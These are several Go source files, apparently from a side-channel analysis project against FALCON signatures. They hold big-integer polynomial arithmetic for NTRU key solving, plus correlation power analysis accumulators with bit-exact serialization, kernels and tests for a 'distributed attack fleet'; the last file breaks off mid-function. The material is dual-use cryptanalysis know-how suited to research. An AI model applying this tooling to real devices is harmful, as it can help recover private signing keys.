	for i := 0; i < h; i++ {
		fe[i], fo[i] = f[2*i], f[2*i+1]
	}
	e := FloatFFT(fe)
	o := FloatFFT(fo)
	out := make([]complex128, h)
	for k := 0; k < h; k++ {
		var ek, ok complex128
		if k < qn {
			ek, ok = e[k], o[k]
		} else {
			j := h - 1 - k
			ek, ok = cmplx.Conj(e[j]), cmplx.Conj(o[j])
		}
		w := cmplx.Exp(complex(0, math.Pi*float64(2*k+1)/float64(n)))
		out[k] = ek + w*ok
	}
	return out
}

// FloatInvFFT inverts FloatFFT.
func FloatInvFFT(F []complex128) []float64 {
	h := len(F)
	n := 2 * h
	if n == 2 {
		return []float64{real(F[0]), imag(F[0])}
	}
	qn := h / 2
	e := make([]complex128, qn)
	o := make([]complex128, qn)
	for k := 0; k < qn; k++ {
		a := F[k]
		b := cmplx.Conj(F[h-1-k])
		w := cmplx.Exp(complex(0, math.Pi*float64(2*k+1)/float64(n)))
		e[k] = (a + b) / 2
		o[k] = (a - b) * cmplx.Conj(w) / 2
	}
	fe := FloatInvFFT(e)
	fo := FloatInvFFT(o)
	f := make([]float64, n)
	for i := 0; i < n/2; i++ {
		f[2*i] = fe[i]
		f[2*i+1] = fo[i]
	}
	return f
}

// adjustToFloat scales the polynomial's coefficients down by 2^(size-53)
// and converts them to float64, preserving the leading ~53 bits.
func adjustToFloat(p Poly, size int) []float64 {
	sh := uint(0)
	if size > 53 {
		sh = uint(size - 53)
	}
	out := make([]float64, len(p))
	var t big.Int
	for i, c := range p {
		t.Rsh(c, sh)
		f, _ := new(big.Float).SetInt(&t).Float64()
		out[i] = f
	}
	return out
}

// Reduce performs Babai's nearest-plane-style length reduction of (F, G)
// against (f, g) in place: it repeatedly subtracts k·(f, g) with
// k = round((F·adj(f) + G·adj(g)) / (f·adj(f) + g·adj(g))), working on
// 53-bit windows of the big coefficients, until k becomes zero. This is the
// reduction step of FALCON's NTRUSolve.
func Reduce(f, g, F, G Poly) {
	size := max(53, f.MaxBitLen(), g.MaxBitLen())
	fa := FloatFFT(adjustToFloat(f, size))
	ga := FloatFFT(adjustToFloat(g, size))
	den := make([]complex128, len(fa))
	for i := range fa {
		den[i] = fa[i]*cmplx.Conj(fa[i]) + ga[i]*cmplx.Conj(ga[i])
	}
	prevSize := 1 << 30
	stall := 0
	for iter := 0; iter < 2000; iter++ {
		bigSize := max(53, F.MaxBitLen(), G.MaxBitLen())
		if bigSize < size {
			break
		}
		// Babai converges by shrinking the coefficients; on adversarial or
		// inconsistent inputs the rounding can oscillate without progress
		// (or even grow), so stop after a bounded stall.
		if bigSize >= prevSize {
			stall++
			if stall > 8 || bigSize > prevSize+64 {
				break
			}
		} else {
			stall = 0
			prevSize = bigSize
		}
		Fa := FloatFFT(adjustToFloat(F, bigSize))
		Ga := FloatFFT(adjustToFloat(G, bigSize))
		num := make([]complex128, len(Fa))
		for i := range Fa {
			num[i] = (Fa[i]*cmplx.Conj(fa[i]) + Ga[i]*cmplx.Conj(ga[i])) / den[i]
		}
		kf := FloatInvFFT(num)
		k := New(len(kf))
		zero := true
		for i, v := range kf {
			r := math.Round(v)
			if r != 0 {
				zero = false
			}
			k[i].SetInt64(int64(r))
		}
		if zero {
			break
		}
		sh := uint(bigSize - size)
		fk := ShiftLeft(Mul(f, k), sh)
		gk := ShiftLeft(Mul(g, k), sh)
		for i := range F {
			F[i].Sub(F[i], fk[i])
			G[i].Sub(G[i], gk[i])
		}
	}
}
