// Package bigpoly implements arbitrary-precision polynomial arithmetic in
// Z[x]/(x^n+1), the machinery FALCON's key generation needs to solve the
// NTRU equation fG − gF = q.
//
// Coefficients are math/big integers because the tower-of-fields descent
// (repeated field norms) squares coefficient sizes at each level; for
// FALCON-512 intermediate coefficients reach thousands of bits before the
// Babai reduction brings F and G back to byte-sized values.
package bigpoly

import (
	"math"
	"math/big"
)

// Poly is a polynomial in Z[x]/(x^n+1) with n = len(p), a power of two.
// The zero polynomial of any length is valid.
type Poly []*big.Int

// New returns the zero polynomial of length n.
func New(n int) Poly {
	p := make(Poly, n)
	for i := range p {
		p[i] = new(big.Int)
	}
	return p
}

// FromInt16 builds a polynomial from small signed coefficients.
func FromInt16(f []int16) Poly {
	p := make(Poly, len(f))
	for i, v := range f {
		p[i] = big.NewInt(int64(v))
	}
	return p
}

// ToInt16 converts back to small coefficients. The second return value is
// false if any coefficient does not fit in an int16.
func (p Poly) ToInt16() ([]int16, bool) {
	out := make([]int16, len(p))
	for i, c := range p {
		if !c.IsInt64() {
			return nil, false
		}
		v := c.Int64()
		if v < math.MinInt16 || v > math.MaxInt16 {
			return nil, false
		}
		out[i] = int16(v)
	}
	return out, true
}

// Clone returns a deep copy.
func (p Poly) Clone() Poly {
	q := make(Poly, len(p))
	for i, c := range p {
		q[i] = new(big.Int).Set(c)
	}
	return q
}

// Add returns p+q.
func Add(p, q Poly) Poly {
	r := make(Poly, len(p))
	for i := range p {
		r[i] = new(big.Int).Add(p[i], q[i])
	}
	return r
}

// Sub returns p-q.
func Sub(p, q Poly) Poly {
	r := make(Poly, len(p))
	for i := range p {
		r[i] = new(big.Int).Sub(p[i], q[i])
	}
	return r
}

// Neg returns -p.
func Neg(p Poly) Poly {
	r := make(Poly, len(p))
	for i := range p {
		r[i] = new(big.Int).Neg(p[i])
	}
	return r
}

// IsZero reports whether every coefficient is zero.
func (p Poly) IsZero() bool {
	for _, c := range p {
		if c.Sign() != 0 {
			return false
		}
	}
	return true
}

// MaxBitLen returns the largest coefficient bit length.
func (p Poly) MaxBitLen() int {
	m := 0
	for _, c := range p {
		if l := c.BitLen(); l > m {
			m = l
		}
	}
	return m
}

// karaThreshold is the size below which schoolbook multiplication is used.
const karaThreshold = 16

// linMul multiplies two coefficient slices of equal power-of-two length n,
// returning the 2n-1 linear-convolution coefficients (Karatsuba).
func linMul(a, b []*big.Int) []*big.Int {
	n := len(a)
	out := make([]*big.Int, 2*n-1)
	for i := range out {
		out[i] = new(big.Int)
	}
	if n <= karaThreshold {
		var t big.Int
		for i := 0; i < n; i++ {
			if a[i].Sign() == 0 {
				continue
			}
			for j := 0; j < n; j++ {
				if b[j].Sign() == 0 {
					continue
				}
				t.Mul(a[i], b[j])
				out[i+j].Add(out[i+j], &t)
			}
		}
		return out
	}
	h := n / 2
	a0, a1 := a[:h], a[h:]
	b0, b1 := b[:h], b[h:]
	p0 := linMul(a0, b0)
	p2 := linMul(a1, b1)
	as := make([]*big.Int, h)
	bs := make([]*big.Int, h)
	for i := 0; i < h; i++ {
		as[i] = new(big.Int).Add(a0[i], a1[i])
		bs[i] = new(big.Int).Add(b0[i], b1[i])
	}
	p1 := linMul(as, bs) // (a0+a1)(b0+b1)
	for i := range p1 {
		p1[i].Sub(p1[i], p0[i])
		p1[i].Sub(p1[i], p2[i])
	}
	for i, c := range p0 {
		out[i].Add(out[i], c)
	}
	for i, c := range p1 {
		out[i+h].Add(out[i+h], c)
	}
	for i, c := range p2 {
		out[i+n].Add(out[i+n], c)
	}
	return out
}

// Mul returns p*q mod (x^n+1).
func Mul(p, q Poly) Poly {
	n := len(p)
	if n == 1 {
		return Poly{new(big.Int).Mul(p[0], q[0])}
	}
	lin := linMul(p, q)
	out := New(n)
	for i, c := range lin {
		if i < n {
			out[i].Add(out[i], c)
		} else {
			out[i-n].Sub(out[i-n], c)
		}
	}
	return out
}

// ScalarMul returns p*k for an integer scalar.
func ScalarMul(p Poly, k *big.Int) Poly {
	r := make(Poly, len(p))
	for i := range p {
		r[i] = new(big.Int).Mul(p[i], k)
	}
	return r
}

// ShiftLeft returns p with every coefficient shifted left by sc bits.
func ShiftLeft(p Poly, sc uint) Poly {
	r := make(Poly, len(p))
	for i := range p {
		r[i] = new(big.Int).Lsh(p[i], sc)
	}
	return r
}

// GaloisConjugate returns f(-x): coefficients at odd indices negated.
// In the 2n-th cyclotomic field this is the nontrivial automorphism used by
// the NTRU solver's descent.
func GaloisConjugate(p Poly) Poly {
	r := make(Poly, len(p))
	for i, c := range p {
		if i&1 == 1 {
			r[i] = new(big.Int).Neg(c)
		} else {
			r[i] = new(big.Int).Set(c)
		}
	}
	return r
}

// FieldNorm maps f ∈ Z[x]/(x^n+1) to its field norm
// N(f) = fe² − x·fo² ∈ Z[x]/(x^{n/2}+1), where fe and fo gather the even
// and odd coefficients (so that f(x) = fe(x²) + x·fo(x²)).
func FieldNorm(p Poly) Poly {
	n := len(p)
	h := n / 2
	fe := make(Poly, h)
	fo := make(Poly, h)
	for i := 0; i < h; i++ {
		fe[i] = p[2*i]
		fo[i] = p[2*i+1]
	}
	fe2 := Mul(fe, fe)
	fo2 := Mul(fo, fo)
	// x·fo² mod (x^h + 1): multiply by x wraps the top coefficient with a
	// sign flip.
	out := New(h)
	out[0].Sub(fe2[0], new(big.Int).Neg(fo2[h-1]))
	for i := 1; i < h; i++ {
		out[i].Sub(fe2[i], fo2[i-1])
	}
	return out
}

// Lift maps f ∈ Z[x]/(x^n+1) to f(x²) ∈ Z[x]/(x^{2n}+1).
func Lift(p Poly) Poly {
	out := New(2 * len(p))
	for i, c := range p {
		out[2*i].Set(c)
	}
	return out
}
