package cpa

import (
	"encoding/json"
	"math"
	"reflect"
	"testing"

	"falcondown/internal/rng"
)

// The cluster's byte-identity contract hinges on encode→decode being the
// identity on accumulator bits. These tests fill engines with awkward
// values (denormals, huge magnitudes, negative zero, values that do not
// round-trip through short decimal strings) and demand exact equality
// after a JSON round trip of the wire state.

func awkwardFloats(r *rng.Xoshiro, n int) []float64 {
	specials := []float64{
		0, math.Copysign(0, -1), 1e-310, -2.2250738585072014e-308,
		math.MaxFloat64, -math.MaxFloat64, 0.1, 1.0 / 3.0, math.Pi * 1e17,
	}
	out := make([]float64, n)
	for i := range out {
		if i < len(specials) {
			out[i] = specials[i]
		} else {
			out[i] = math.Float64frombits(r.Uint64())
			if math.IsNaN(out[i]) {
				out[i] = r.Float64()
			}
		}
	}
	return out
}

func jsonRoundTrip(t *testing.T, in, out any) {
	t.Helper()
	b, err := json.Marshal(in)
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(b, out); err != nil {
		t.Fatal(err)
	}
}

func TestEngineStateRoundTripExact(t *testing.T) {
	r := rng.New(1001)
	e := NewEngine(17)
	h := make([]float64, 17)
	for trace := 0; trace < 40; trace++ {
		copy(h, awkwardFloats(r, 17))
		e.Update(h, r.Float64()*1e6-5e5)
	}
	var st EngineState
	jsonRoundTrip(t, e.State(), &st)
	got, err := EngineFromState(st)
	if err != nil {
		t.Fatal(err)
	}
	// Compare wire states, not structs: DeepEqual uses == on float64, and
	// NaN != NaN, but the accumulators legitimately hold NaN here (the
	// awkward inputs drive Inf-Inf). Bit patterns are what must match.
	if !reflect.DeepEqual(e.State(), got.State()) {
		t.Fatal("engine state round trip is not the identity")
	}

	// Folding the decoded partial must be bit-identical to folding the
	// original.
	a, b := NewEngine(17), NewEngine(17)
	a.Merge(e)
	b.Merge(got)
	if !reflect.DeepEqual(a.State(), b.State()) {
		t.Fatal("merge of decoded engine differs from merge of original")
	}
}

func TestEngineStateRejectsCorruptShapes(t *testing.T) {
	e := NewEngine(4)
	e.Update([]float64{1, 2, 3, 4}, 0.5)
	st := e.State()

	bad := st
	bad.NHyp = 5 // packed slices now disagree with the declared shape
	if _, err := EngineFromState(bad); err == nil {
		t.Fatal("shape-inconsistent state decoded without error")
	}
	bad = st
	bad.SumH = "!!not-base64!!"
	if _, err := EngineFromState(bad); err == nil {
		t.Fatal("malformed base64 decoded without error")
	}
	bad = st
	bad.NHyp = 0
	if _, err := EngineFromState(bad); err == nil {
		t.Fatal("zero-hypothesis state decoded without error")
	}
}

func TestMultiEngineStateRoundTripExact(t *testing.T) {
	r := rng.New(1002)
	e := NewMultiEngine(5, 9)
	for trace := 0; trace < 30; trace++ {
		e.Update(awkwardFloats(r, 5), awkwardFloats(r, 9))
	}
	var st MultiEngineState
	jsonRoundTrip(t, e.State(), &st)
	got, err := MultiEngineFromState(st)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(e.State(), got.State()) {
		t.Fatal("multi-engine state round trip is not the identity")
	}
}

func TestMatrixEngineStateRoundTripExact(t *testing.T) {
	r := rng.New(1003)
	e := NewMatrixEngine(4, 7)
	for trace := 0; trace < 30; trace++ {
		e.Update(awkwardFloats(r, 4*7), awkwardFloats(r, 7))
	}
	var st MatrixEngineState
	jsonRoundTrip(t, e.State(), &st)
	got, err := MatrixEngineFromState(st)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(e.State(), got.State()) {
		t.Fatal("matrix-engine state round trip is not the identity")
	}

	a, b := NewMatrixEngine(4, 7), NewMatrixEngine(4, 7)
	a.Merge(e)
	b.Merge(got)
	if !reflect.DeepEqual(a.State(), b.State()) {
		t.Fatal("merge of decoded matrix engine differs from merge of original")
	}
}

func TestRunningStatsStateRoundTripExact(t *testing.T) {
	r := rng.New(1004)
	var s RunningStats
	for _, v := range awkwardFloats(r, 64) {
		if math.IsInf(v, 0) || math.Abs(v) > 1e300 {
			continue // keep the accumulator finite; Inf-Inf would poison m2
		}
		s.Add(v)
	}
	var st RunningStatsState
	jsonRoundTrip(t, s.State(), &st)
	got, err := RunningStatsFromState(st)
	if err != nil {
		t.Fatal(err)
	}
	if s != got {
		t.Fatal("running-stats state round trip is not the identity")
	}

	// Chan combination over the decoded partial must match the original.
	var a, b RunningStats
	a.Add(1.5)
	b.Add(1.5)
	a.Merge(s)
	b.Merge(got)
	if a != b {
		t.Fatal("merge of decoded running stats differs from merge of original")
	}
}
