package cpa

// Wire-exact engine state. The distributed attack fleet ships partial
// accumulators between processes; folding a decoded partial must execute
// the *identical* floating-point additions as folding the in-process
// clone it was serialized from, or the cluster's byte-identity contract
// collapses. JSON's decimal float round-trip is not trustworthy for that
// (and cannot carry NaN/Inf at all), so every float64 crosses the wire as
// its IEEE-754 bit pattern: scalars as uint64 fields, slices packed as
// base64 little-endian 8-byte words. Encode→decode is the identity on
// bits, proven by the round-trip property tests in state_test.go.

import (
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"math"
)

// packFloats encodes a float64 slice as base64 little-endian IEEE-754
// words — bit-exact, NaN/Inf safe, and ~40% smaller than decimal JSON.
func packFloats(v []float64) string {
	buf := make([]byte, 8*len(v))
	for i, f := range v {
		binary.LittleEndian.PutUint64(buf[8*i:], math.Float64bits(f))
	}
	return base64.StdEncoding.EncodeToString(buf)
}

// PackFloats is the exported packFloats, for sibling packages shipping
// float64 planes (e.g. the robust-preprocessing plan) bit-exactly.
func PackFloats(v []float64) string { return packFloats(v) }

// UnpackFloats is the exported unpackFloats.
func UnpackFloats(s string, want int) ([]float64, error) { return unpackFloats(s, want) }

// unpackFloats decodes a packFloats string, validating the element count.
func unpackFloats(s string, want int) ([]float64, error) {
	buf, err := base64.StdEncoding.DecodeString(s)
	if err != nil {
		return nil, fmt.Errorf("cpa: malformed packed floats: %w", err)
	}
	if len(buf) != 8*want {
		return nil, fmt.Errorf("cpa: packed floats hold %d bytes, want %d values", len(buf), want)
	}
	out := make([]float64, want)
	for i := range out {
		out[i] = math.Float64frombits(binary.LittleEndian.Uint64(buf[8*i:]))
	}
	return out, nil
}

// EngineState is the wire form of an Engine's accumulators. Scalar sums
// are IEEE-754 bit patterns; slices are packed (see packFloats).
type EngineState struct {
	D     int    `json:"d"`
	NHyp  int    `json:"nHyp"`
	SumT  uint64 `json:"sumT"`
	SumT2 uint64 `json:"sumT2"`
	SumH  string `json:"sumH"`
	SumH2 string `json:"sumH2"`
	SumHT string `json:"sumHT"`
}

// State snapshots the engine's accumulators bit-exactly. A fixed-point
// engine syncs its int64 mirror into the float64 fields first — every
// mirrored sum is within ±2^53, hence exactly representable, so the wire
// form is byte-identical to a float64 engine at the same logical point
// and the wire format needs no fixed-point variant.
func (e *Engine) State() EngineState {
	e.sync()
	return EngineState{
		D:     e.d,
		NHyp:  len(e.sumH),
		SumT:  math.Float64bits(e.sumT),
		SumT2: math.Float64bits(e.sumT2),
		SumH:  packFloats(e.sumH),
		SumH2: packFloats(e.sumH2),
		SumHT: packFloats(e.sumHT),
	}
}

// EngineFromState rebuilds an engine carrying exactly the snapshotted
// sums; Merge-ing it is bit-identical to Merge-ing the original.
func EngineFromState(st EngineState) (*Engine, error) {
	if st.NHyp <= 0 || st.D < 0 {
		return nil, fmt.Errorf("cpa: engine state with nHyp=%d d=%d", st.NHyp, st.D)
	}
	sumH, err := unpackFloats(st.SumH, st.NHyp)
	if err != nil {
		return nil, err
	}
	sumH2, err := unpackFloats(st.SumH2, st.NHyp)
	if err != nil {
		return nil, err
	}
	sumHT, err := unpackFloats(st.SumHT, st.NHyp)
	if err != nil {
		return nil, err
	}
	return &Engine{
		d:     st.D,
		sumT:  math.Float64frombits(st.SumT),
		sumT2: math.Float64frombits(st.SumT2),
		sumH:  sumH,
		sumH2: sumH2,
		sumHT: sumHT,
	}, nil
}

// MultiEngineState is the wire form of a MultiEngine.
type MultiEngineState struct {
	D     int    `json:"d"`
	NHyp  int    `json:"nHyp"`
	NSamp int    `json:"nSamp"`
	SumT  string `json:"sumT"`
	SumT2 string `json:"sumT2"`
	SumH  string `json:"sumH"`
	SumH2 string `json:"sumH2"`
	SumHT string `json:"sumHT"`
}

// State snapshots the windowed engine's accumulators bit-exactly.
func (e *MultiEngine) State() MultiEngineState {
	return MultiEngineState{
		D:     e.d,
		NHyp:  e.nHyp,
		NSamp: e.nSamp,
		SumT:  packFloats(e.sumT),
		SumT2: packFloats(e.sumT2),
		SumH:  packFloats(e.sumH),
		SumH2: packFloats(e.sumH2),
		SumHT: packFloats(e.sumHT),
	}
}

// MultiEngineFromState rebuilds a windowed engine from its wire form.
func MultiEngineFromState(st MultiEngineState) (*MultiEngine, error) {
	if st.NHyp <= 0 || st.NSamp <= 0 || st.D < 0 {
		return nil, fmt.Errorf("cpa: multi-engine state with nHyp=%d nSamp=%d d=%d", st.NHyp, st.NSamp, st.D)
	}
	sumT, err := unpackFloats(st.SumT, st.NSamp)
	if err != nil {
		return nil, err
	}
	sumT2, err := unpackFloats(st.SumT2, st.NSamp)
	if err != nil {
		return nil, err
	}
	sumH, err := unpackFloats(st.SumH, st.NHyp)
	if err != nil {
		return nil, err
	}
	sumH2, err := unpackFloats(st.SumH2, st.NHyp)
	if err != nil {
		return nil, err
	}
	sumHT, err := unpackFloats(st.SumHT, st.NHyp*st.NSamp)
	if err != nil {
		return nil, err
	}
	return &MultiEngine{
		d: st.D, nHyp: st.NHyp, nSamp: st.NSamp,
		sumT: sumT, sumT2: sumT2, sumH: sumH, sumH2: sumH2, sumHT: sumHT,
	}, nil
}

// MatrixEngineState is the wire form of a MatrixEngine.
type MatrixEngineState struct {
	D     int    `json:"d"`
	NHyp  int    `json:"nHyp"`
	NSamp int    `json:"nSamp"`
	SumT  string `json:"sumT"`
	SumT2 string `json:"sumT2"`
	SumH  string `json:"sumH"`
	SumH2 string `json:"sumH2"`
	SumHT string `json:"sumHT"`
}

// NHyp returns the hypothesis count (for shape validation by decoders).
func (e *MatrixEngine) NHyp() int { return e.nHyp }

// NSamp returns the per-hypothesis sample count.
func (e *MatrixEngine) NSamp() int { return e.nSamp }

// State snapshots the per-sample-prediction engine's accumulators
// bit-exactly (fixed-point engines sync their exact mirror first; see
// Engine.State).
func (e *MatrixEngine) State() MatrixEngineState {
	e.sync()
	return MatrixEngineState{
		D:     e.d,
		NHyp:  e.nHyp,
		NSamp: e.nSamp,
		SumT:  packFloats(e.sumT),
		SumT2: packFloats(e.sumT2),
		SumH:  packFloats(e.sumH),
		SumH2: packFloats(e.sumH2),
		SumHT: packFloats(e.sumHT),
	}
}

// MatrixEngineFromState rebuilds a per-sample-prediction engine from its
// wire form.
func MatrixEngineFromState(st MatrixEngineState) (*MatrixEngine, error) {
	if st.NHyp <= 0 || st.NSamp <= 0 || st.D < 0 {
		return nil, fmt.Errorf("cpa: matrix-engine state with nHyp=%d nSamp=%d d=%d", st.NHyp, st.NSamp, st.D)
	}
	sumT, err := unpackFloats(st.SumT, st.NSamp)
	if err != nil {
		return nil, err
	}
	sumT2, err := unpackFloats(st.SumT2, st.NSamp)
	if err != nil {
		return nil, err
	}
	sumH, err := unpackFloats(st.SumH, st.NHyp*st.NSamp)
	if err != nil {
		return nil, err
	}
	sumH2, err := unpackFloats(st.SumH2, st.NHyp*st.NSamp)
	if err != nil {
		return nil, err
	}
	sumHT, err := unpackFloats(st.SumHT, st.NHyp*st.NSamp)
	if err != nil {
		return nil, err
	}
	return &MatrixEngine{
		d: st.D, nHyp: st.NHyp, nSamp: st.NSamp,
		sumT: sumT, sumT2: sumT2, sumH: sumH, sumH2: sumH2, sumHT: sumHT,
	}, nil
}

// RunningStatsState is the wire form of a RunningStats accumulator.
type RunningStatsState struct {
	N    int    `json:"n"`
	Mean uint64 `json:"mean"`
	M2   uint64 `json:"m2"`
}

// State snapshots the accumulator bit-exactly.
func (s *RunningStats) State() RunningStatsState {
	return RunningStatsState{N: s.n, Mean: math.Float64bits(s.mean), M2: math.Float64bits(s.m2)}
}

// RunningStatsFromState rebuilds an accumulator from its wire form.
func RunningStatsFromState(st RunningStatsState) (RunningStats, error) {
	if st.N < 0 {
		return RunningStats{}, fmt.Errorf("cpa: running-stats state with n=%d", st.N)
	}
	return RunningStats{n: st.N, mean: math.Float64frombits(st.Mean), m2: math.Float64frombits(st.M2)}, nil
}
