package cpa

// Correlation-kernel selection and the two optimized accumulation paths.
//
// The Pearson accumulators admit three executions of the *same* arithmetic:
//
//   - KernelScalar: the original per-(trace, hypothesis) float64 loop.
//   - KernelBlocked: a cache-blocked batch kernel. A batch of traces is
//     accumulated tile by tile over the hypothesis axis, so one tile's
//     accumulator segment (3 × tileHyp float64s, ~6 KiB at the default
//     width) stays L1-resident across the whole batch instead of the full
//     3 × nHyp working set being streamed through cache once per trace.
//   - KernelFixed: an opt-in int64 fixed-point path for quantized traces.
//     While every input is an integer with |v| ≤ 2^26 and every running
//     sum stays within ±2^53, sums and cross-products are accumulated as
//     exact int64s; the engine converts to float64 only when a sum is
//     read (Corr, State) or when the exactness regime is left.
//
// All three produce bit-identical results on every corpus. That is not an
// accident to be tested into existence but a designed invariant:
//
//   - Floating-point addition is commutative across *distinct* memory
//     cells but not associative within one. The blocked kernel therefore
//     never reassociates: each accumulator cell still receives its adds
//     in strict trace order — tiles partition the cell space, and a
//     register-held accumulator folded left-to-right over the batch
//     executes the identical add sequence as per-trace in-place updates.
//   - In the fixed-point regime every value, product, and prefix sum is an
//     integer of magnitude ≤ 2^53, all of which float64 represents
//     exactly; the float64 reference therefore incurs no rounding on such
//     corpora and the int64 sums equal it bit for bit after conversion.
//     The first input or sum that would leave the regime triggers an exact
//     demotion (int64 → float64 conversion of the pre-update sums, which
//     are in range by construction) and the engine continues on the float
//     path — so on noisy, non-integer corpora KernelFixed degenerates to
//     the scalar path after the first observation, still byte-identical.
//
// kernel_test.go proves both properties: tile-shape invariance of the
// blocked kernel and bit-equality of the fixed path against the float64
// reference, on integer-exact and on demoting corpora.

import "fmt"

// Kernel selects the execution strategy of the correlation accumulators.
// The zero value is the scalar reference path, so existing callers are
// untouched.
type Kernel uint8

const (
	// KernelScalar is the original per-trace float64 loop.
	KernelScalar Kernel = iota
	// KernelBlocked is the tiled, batch-of-traces float64 kernel.
	KernelBlocked
	// KernelFixed accumulates int64 fixed-point sums while traces stay
	// integer-exact, demoting to the float64 path the moment they do not.
	KernelFixed
)

// String returns the kernel's CLI / metrics-label name.
func (k Kernel) String() string {
	switch k {
	case KernelScalar:
		return "scalar"
	case KernelBlocked:
		return "blocked"
	case KernelFixed:
		return "fixed"
	}
	return fmt.Sprintf("kernel(%d)", uint8(k))
}

// ParseKernel parses a kernel name; the empty string means scalar.
func ParseKernel(s string) (Kernel, error) {
	switch s {
	case "", "scalar":
		return KernelScalar, nil
	case "blocked":
		return KernelBlocked, nil
	case "fixed":
		return KernelFixed, nil
	}
	return KernelScalar, fmt.Errorf("cpa: unknown kernel %q (want scalar, blocked or fixed)", s)
}

// Kernels enumerates every kernel, for differential tests and benchmarks.
func Kernels() []Kernel { return []Kernel{KernelScalar, KernelBlocked, KernelFixed} }

// defaultTileHyp is the hypothesis-tile width of the blocked kernel: three
// accumulator planes of 256 float64s are 6 KiB, comfortably L1-resident
// beside the per-trace prediction row.
const defaultTileHyp = 256

// tileHyp is a package variable (not a constant) so the tile-invariance
// property test can sweep shapes; results are bit-identical for every
// positive value, so it is a pure performance knob.
var tileHyp = defaultTileHyp

// Fixed-point exactness bounds. Inputs must be integers with |v| ≤ 2^26 so
// products are ≤ 2^52; running sums must stay within ±2^53 so both the
// int64 sums and every float64 prefix sum the reference path would compute
// remain exact (all integers of magnitude ≤ 2^53 are float64-exact).
const (
	fxMaxVal  = int64(1) << 26
	fxMaxSum  = int64(1) << 53
	fxMaxValF = float64(fxMaxVal)
	fxMaxSumF = float64(fxMaxSum)
)

// asFx converts an input value into the fixed-point domain; ok is false
// for non-integers, NaN/Inf, and magnitudes above 2^26.
func asFx(v float64) (int64, bool) {
	if !(v >= -fxMaxValF && v <= fxMaxValF) { // NaN fails both compares
		return 0, false
	}
	i := int64(v)
	if float64(i) != v {
		return 0, false
	}
	return i, true
}

// asFxSum converts an already-accumulated float64 sum (e.g. a decoded wire
// partial) into the fixed-point domain: any integer within ±2^53.
func asFxSum(v float64) (int64, bool) {
	if !(v >= -fxMaxSumF && v <= fxMaxSumF) {
		return 0, false
	}
	i := int64(v)
	if float64(i) != v {
		return 0, false
	}
	return i, true
}

// fits reports whether a fixed-point sum is still within the exact regime.
func fits(s int64) bool { return s >= -fxMaxSum && s <= fxMaxSum }

// engineFx mirrors an Engine's accumulators as exact int64 sums. While it
// is attached, the engine's float64 fields are a stale cache refreshed by
// sync(); detaching it (demote) is an exact conversion.
type engineFx struct {
	sumT, sumT2 int64
	sumH        []int64
	sumH2       []int64
	sumHT       []int64
}

// NewEngineKernel returns an engine for nHyp hypotheses using the given
// kernel. KernelScalar and KernelBlocked share the float64 accumulators
// (they differ only in how batches are driven); KernelFixed attaches the
// int64 mirror.
func NewEngineKernel(nHyp int, k Kernel) *Engine {
	e := NewEngine(nHyp)
	if k == KernelFixed {
		e.fx = &engineFx{
			sumH:  make([]int64, nHyp),
			sumH2: make([]int64, nHyp),
			sumHT: make([]int64, nHyp),
		}
	}
	return e
}

// sync refreshes the float64 accumulators from the int64 mirror. Every
// mirrored sum is within ±2^53, so the conversion is exact and the synced
// floats are bit-identical to what the float64 reference path holds.
func (e *Engine) sync() {
	fx := e.fx
	if fx == nil {
		return
	}
	e.sumT = float64(fx.sumT)
	e.sumT2 = float64(fx.sumT2)
	for i := range fx.sumH {
		e.sumH[i] = float64(fx.sumH[i])
		e.sumH2[i] = float64(fx.sumH2[i])
		e.sumHT[i] = float64(fx.sumHT[i])
	}
}

// demote leaves the fixed-point regime for good: exact conversion of the
// int64 sums, then plain float64 accumulation from here on.
func (e *Engine) demote() {
	e.sync()
	e.fx = nil
}

// updateFixed folds one trace in the int64 domain. The adds are applied
// optimistically; the first input or sum that leaves the exact regime
// rolls the half-applied update back (int64 subtraction is exact, so the
// pre-update sums are restored bit-perfectly), demotes, and re-applies the
// whole update on the float path — exactly where the float64 reference
// would have been.
func (e *Engine) updateFixed(h []float64, t float64) {
	fx := e.fx
	ft, ok := asFx(t)
	if !ok {
		e.demote()
		e.updateFloat(h, t)
		return
	}
	fx.sumT += ft
	fx.sumT2 += ft * ft
	if !fits(fx.sumT) || !fits(fx.sumT2) {
		fx.sumT -= ft
		fx.sumT2 -= ft * ft
		e.demote()
		e.updateFloat(h, t)
		return
	}
	for i, hv := range h {
		fh, ok := asFx(hv)
		if ok {
			fx.sumH[i] += fh
			fx.sumH2[i] += fh * fh
			fx.sumHT[i] += fh * ft
			if fits(fx.sumH[i]) && fits(fx.sumH2[i]) && fits(fx.sumHT[i]) {
				continue
			}
			fx.sumH[i] -= fh
			fx.sumH2[i] -= fh * fh
			fx.sumHT[i] -= fh * ft
		}
		// Roll back the hypothesis slots already applied and the trace
		// sums, then redo the whole observation in float64.
		for k := 0; k < i; k++ {
			fk, _ := asFx(h[k])
			fx.sumH[k] -= fk
			fx.sumH2[k] -= fk * fk
			fx.sumHT[k] -= fk * ft
		}
		fx.sumT -= ft
		fx.sumT2 -= ft * ft
		e.demote()
		e.updateFloat(h, t)
		return
	}
	e.d++
}

// fixedFromFloats promotes a float64 engine's sums into the fixed domain,
// failing if any sum is not an exact integer within ±2^53.
func fixedFromFloats(o *Engine) (*engineFx, bool) {
	fx := &engineFx{
		sumH:  make([]int64, len(o.sumH)),
		sumH2: make([]int64, len(o.sumH)),
		sumHT: make([]int64, len(o.sumH)),
	}
	var ok bool
	if fx.sumT, ok = asFxSum(o.sumT); !ok {
		return nil, false
	}
	if fx.sumT2, ok = asFxSum(o.sumT2); !ok {
		return nil, false
	}
	for i := range o.sumH {
		if fx.sumH[i], ok = asFxSum(o.sumH[i]); !ok {
			return nil, false
		}
		if fx.sumH2[i], ok = asFxSum(o.sumH2[i]); !ok {
			return nil, false
		}
		if fx.sumHT[i], ok = asFxSum(o.sumHT[i]); !ok {
			return nil, false
		}
	}
	return fx, true
}

// mergeFixed folds o into e entirely in the int64 domain. It succeeds only
// when o's sums are exact integers in range and every combined sum stays
// within the regime; otherwise nothing is modified and the caller demotes.
func (e *Engine) mergeFixed(o *Engine) bool {
	ofx := o.fx
	if ofx == nil {
		var ok bool
		if ofx, ok = fixedFromFloats(o); !ok {
			return false
		}
	}
	fx := e.fx
	if !fits(fx.sumT+ofx.sumT) || !fits(fx.sumT2+ofx.sumT2) {
		return false
	}
	for i := range fx.sumH {
